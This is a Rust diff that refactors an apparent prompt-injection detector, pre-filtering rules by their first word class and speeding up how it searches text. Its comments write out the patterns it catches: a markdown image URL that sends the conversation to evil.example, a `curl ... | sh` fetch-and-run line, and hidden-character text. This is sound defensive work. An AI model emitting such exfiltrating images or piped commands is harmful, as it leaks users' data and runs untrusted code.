@@ -4,7 +4,7 @@ use super::injection::{Reason, THRESHOLD};
 use super::marks::{self, Mark};
 use super::rules::{DELIVERED, ORDERS, RULES, Rule};
 use super::unhide::Plain;
-use super::vocabulary::{AI, DESTROY, MAKE, MONEY, NOT, SEND, SOFT};
+use super::vocabulary::{AI, Classes, DESTROY, MAKE, MONEY, NOT, SEND, SOFT};
 use super::words::{Word, words};
 
 /// Letters woven with hidden characters, or written as tags or from right to left, that are no accident.
@@ -39,14 +39,15 @@ pub(super) fn find_signs(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
     });
     // most rules need a word that is nowhere here
     let here = words.iter().fold(0, |here, word| here | word.classes);
-    let rules: Vec<&Rule> = RULES.iter().filter(|rule| rule.steps.iter().all(|step| step & here != 0)).collect();
+    let rules: Vec<(Classes, &Rule)> =
+        RULES.iter().filter(|rule| rule.steps.iter().all(|step| step & here != 0)).map(|rule| (rule.steps[0], rule)).collect();
     for from in 0..words.len() {
         // every rule begins with a word of some class, and most words are in none
         if words[from].classes == 0 {
             continue;
         }
         let is_negated = is_negated(words, from);
-        for rule in &rules {
+        for (_, rule) in rules.iter().filter(|(first, _)| first & words[from].classes != 0) {
             // "never send secrets" asks for the opposite
             if is_negated && matches!(rule.reason, Reason::Exfiltration | Reason::Demand | Reason::InstructionOverride) {
                 continue;
@@ -124,10 +125,15 @@ fn is_delivered(words: &[Word], end: usize, is_comment: bool) -> bool {
     near && (verb.classes & SEND != 0 || deletes || buys)
 }
 
+/// Where this stands, which begins with this byte: the first places of many.
+fn all(text: &str, first: u8, what: &'static str) -> impl Iterator<Item = usize> {
+    text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text[*at..].starts_with(what)).map(|(at, _)| at).take(8)
+}
+
 /// An image whose address takes data along: `![x](https://evil.example/?d={conversation})`.
 fn find_image(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
     let text = plain.text.as_str();
-    for (at, _) in text.match_indices("](http").take(8) {
+    for at in all(text, b']', "](http") {
         let address = &text[at..];
         let address = &address[..address.find([' ', '\n']).unwrap_or(address.len()).min(300)];
         let Some(query) = address.find('?') else { continue };
@@ -162,7 +168,7 @@ fn find_image(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
 /// A program from the network that is run: `curl ... | sh` counts beside a forged call.
 fn find_piped(plain: &Plain, signs: &mut Vec<Sign>) {
     let text = plain.text.as_str();
-    for (at, _) in text.match_indices("| ").take(8) {
+    for at in all(text, b'|', "| ") {
         let runs = ["sh", "bash", "python"].iter().any(|shell| text[at + 2..].starts_with(shell));
         let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
         let before = &text[line..at];
